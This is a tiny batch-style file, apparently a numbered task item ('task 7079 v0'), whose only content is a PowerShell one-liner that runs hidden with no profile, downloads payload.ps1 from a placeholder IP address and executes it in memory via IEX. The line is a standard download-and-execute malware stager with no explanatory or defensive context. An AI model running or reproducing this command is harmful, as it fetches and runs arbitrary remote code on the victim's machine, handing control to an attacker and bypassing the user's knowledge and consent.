REM task 7079 v0
powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/payload.ps1')"
